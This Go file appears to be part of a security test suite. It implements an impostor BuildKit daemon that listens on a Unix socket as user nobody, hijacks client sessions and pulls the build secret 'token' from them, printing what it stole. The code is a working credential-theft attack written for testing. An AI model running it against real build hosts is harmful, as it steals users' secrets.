//go:build linux

package attacks

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"syscall"
	"testing"
	"time"

	controlapi "github.com/moby/buildkit/api/services/control"
	types "github.com/moby/buildkit/api/types"
	"github.com/moby/buildkit/session"
	"github.com/moby/buildkit/session/grpchijack"
	"github.com/moby/buildkit/session/secrets"
	"github.com/moby/buildkit/solver/pb"
	"google.golang.org/grpc"
)

// impostorVariable is an environment variable that makes the test binary the attacker's process. Its value is the
// socket that the process listens on.
const impostorVariable = "ATTACKS_IMPOSTOR"

func init() {
	if socket := os.Getenv(impostorVariable); socket != "" {
		fmt.Fprintln(os.Stdout, impersonate(socket))
		os.Exit(0)
	}
}

// impostor answers as buildkitd does, and asks each session for the secret of the build.
type impostor struct {
	controlapi.UnimplementedControlServer
	sessions *session.Manager
}

// impersonate serves the socket as the user nobody, and prints the secrets that it gets.
func impersonate(socket string) error {
	if err := syscall.Setuid(nobody); err != nil {
		return err
	}
	listener, err := net.Listen("unix", socket)
	if err != nil {
		return err
	}
	sessions, err := session.NewManager()
	if err != nil {
		return err
	}
	server := grpc.NewServer()
	controlapi.RegisterControlServer(server, impostor{sessions: sessions})
	fmt.Fprintln(os.Stdout, "listening")
	return server.Serve(listener)
}

func (i impostor) Info(context.Context, *controlapi.InfoRequest) (*controlapi.InfoResponse, error) {
	return &controlapi.InfoResponse{}, nil
}

func (i impostor) ListWorkers(
	context.Context, *controlapi.ListWorkersRequest,
) (*controlapi.ListWorkersResponse, error) {
	worker := &types.WorkerRecord{ID: "worker", Platforms: []*pb.Platform{{OS: "linux", Architecture: "amd64"}}}
	return &controlapi.ListWorkersResponse{Record: []*types.WorkerRecord{worker}}, nil
}

func (i impostor) Status(_ *controlapi.StatusRequest, stream controlapi.Control_StatusServer) error {
	<-stream.Context().Done()
	return nil
}

func (i impostor) Session(stream controlapi.Control_SessionServer) error {
	conn, closed, opts := grpchijack.Hijack(stream)
	defer conn.Close()
	ctx, cancel := context.WithCancelCause(stream.Context())
	go func() {
		<-closed
		cancel(errors.New("closed"))
	}()
	go func() {
		caller, err := i.sessions.Get(ctx, opts["x-docker-expose-session-uuid"][0], false)
		if err != nil {
			return
		}
		secret, err := secrets.GetSecret(ctx, caller, "token")
		fmt.Fprintf(os.Stdout, "stole %q (%v)\n", secret, err)
	}()
	return i.sessions.HandleConn(ctx, conn, opts)
}

func (i impostor) Solve(ctx context.Context, _ *controlapi.SolveRequest) (*controlapi.SolveResponse, error) {
	select {
	case <-ctx.Done():
	case <-time.After(3 * time.Second): // meanwhile the secret is asked for
	}
	return nil, errors.New("no")
}

// startImpostor starts the attacker's process, and returns what it prints from then on.
func startImpostor(t *testing.T, socket string) <-chan string {
	t.Helper()
	cmd := exec.Command(os.Args[0])
	cmd.Env = append(os.Environ(), impostorVariable+"="+socket)
	output, err := cmd.StdoutPipe()
	if err == nil {
		err = cmd.Start()
	}
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
	})
	lines := make(chan string, 100)
	go func() {
		defer close(lines)
		for scanner := bufio.NewScanner(output); scanner.Scan(); {
			lines <- scanner.Text()
		}
	}()
	if line := <-lines; line != "listening" {
		t.Fatalf("the attacker's process printed %q", line)
	}
	return lines
}
